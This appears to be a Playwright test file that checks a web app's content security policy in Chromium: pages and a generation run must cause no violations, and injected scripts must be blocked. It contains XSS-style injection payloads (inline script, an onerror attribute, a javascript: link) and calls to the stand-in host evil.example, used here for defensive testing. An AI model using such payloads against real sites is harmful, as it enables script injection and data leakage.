"""The content security policy in a real Chromium: the page works, smuggled scripts do not."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.acceptance.app_process import App
from tests.browser.pages.app import AppPage

#: everything that a page of ours shows, Swagger's included
ADDRESSES = ("/", "/create/v1-fill", "/gallery", "/presets", "/api/v1/docs")
HEARD = """window.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));"""


@pytest.mark.parametrize("path", ADDRESSES)
def test_no_view_violates_the_policy(tab: AppPage, app: App, path: str) -> None:
    tab.page.add_init_script(HEARD)
    if path.startswith("/api/"):
        tab.page.goto(app.url + path)
        expect(tab.page.locator(".opblock").first).to_be_visible()
    else:
        tab.open(path)
    assert tab.page.evaluate("window.violations") == []


def test_a_run_from_the_form_to_the_viewer_violates_nothing(tab: AppPage) -> None:
    tab.page.add_init_script(HEARD)
    form = tab.create("v1.1")
    form.box("prompt").fill("a lighthouse behind a policy")
    run_id = tab.make(form)
    tab.stage.picture(run_id, 0).click()
    expect(tab.page.locator("dialog.viewer")).to_be_visible()
    assert tab.page.evaluate("window.violations") == []


SMUGGLED = {
    "an inline script": """const made = document.createElement("script");
        made.textContent = "window.smuggled = true"; document.body.append(made);""",
    "an attribute": """const made = document.createElement("div");
        made.innerHTML = '<img src="data:," onerror="window.smuggled = true">';
        document.body.append(made);""",
    "another host": """const made = document.createElement("script");
        made.src = "https://evil.example/x.js"; document.body.append(made);""",
    "an address": """const made = document.createElement("a");
        made.href = "javascript:window.smuggled = true";
        document.body.append(made); made.click();""",
}


@pytest.fixture
def attacked(context: BrowserContext, app: App) -> Iterator[AppPage]:
    """A tab on which somebody tries what no page of ours does: nobody watches for faults."""
    page = context.new_page()
    page.add_init_script(HEARD)
    yield AppPage(page, app.url).open("/gallery")
    page.close()


@pytest.mark.parametrize("way", SMUGGLED)
def test_a_smuggled_script_does_not_run(attacked: AppPage, way: str) -> None:
    attacked.page.evaluate(SMUGGLED[way])
    attacked.page.wait_for_function("window.violations.length > 0")
    assert attacked.page.evaluate("window.smuggled") is None


@pytest.mark.parametrize(
    "way",
    [
        "void fetch('https://evil.example/').catch(() => null)",
        "new Image().src = 'https://evil.example/a.png'",
    ],
)
def test_the_page_reaches_no_other_host(attacked: AppPage, way: str) -> None:
    attacked.page.evaluate(f"() => {{ {way} }}")
    attacked.page.wait_for_function("window.violations.length > 0")
